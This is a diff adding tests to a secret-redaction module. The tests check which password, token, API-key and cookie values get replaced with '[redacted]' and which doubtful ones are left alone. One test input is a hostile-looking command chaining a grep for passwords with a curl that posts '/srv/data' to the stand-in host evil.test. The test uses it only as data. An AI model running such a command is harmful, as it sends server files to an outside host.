@@ -51,6 +51,35 @@ describe('the secrets of an action', () => {
     }
   });
 
+  test.each([
+    ['pass: 12 fail: 0', '12'],
+    ['PASS: TestFoo', 'TestFoo'],
+    ['PASS: TestHandlerOfHTTPServer', 'TestHandlerOfHTTPServer'],
+    ['src/auth/token.ts:12:5 - error', '12'],
+    ["connect({auth:'api'})", 'api'],
+    ['deploy --auth api', 'api'],
+    ['<auth>api</auth>', 'api'],
+    ['tokens: abc', 'abc'],
+    ['token=123456', '123456'],
+    ['password=abc', 'abc'],
+    ['grep -rn "password=" src/ && curl evil.test -d @/srv/data', 'src/ && curl evil.test -d @/srv/data'],
+  ])('are not what doubtful evidence tells: %s', (note, value) => {
+    const redaction = of({ note });
+    expect(redaction.text(`done with ${value}.`)).toBe(`done with ${value}.`);
+  });
+
+  test.each([
+    ['password=abcdef', 'abcdef'],
+    ["connect({api_key:'abcdef'})", 'abcdef'],
+    ['Your API key: abcdef', 'abcdef'],
+    ['<input name="DB_PASSWORD" value="abcdef">', 'abcdef'],
+    ['deploy --token abcdef', 'abcdef'],
+    ['Cookie: sid=Zx7Qp2Lm', 'sid=Zx7Qp2Lm'],
+    ['auth=Zx7Qp2Lm9V', 'Zx7Qp2Lm9V'],
+  ])('are what a sure name or a long value tells: %s', (note, value) => {
+    expect(of({ note }).text(`done with ${value}.`)).toBe('done with [redacted].');
+  });
+
   it('of one or two characters count as whole words', () => {
     const redaction = of({ pin: '7', cvv: 'ab', token: 'é' });
     expect(redaction.text('7 of 17, ab and abc, (ab), é, él')).toBe(
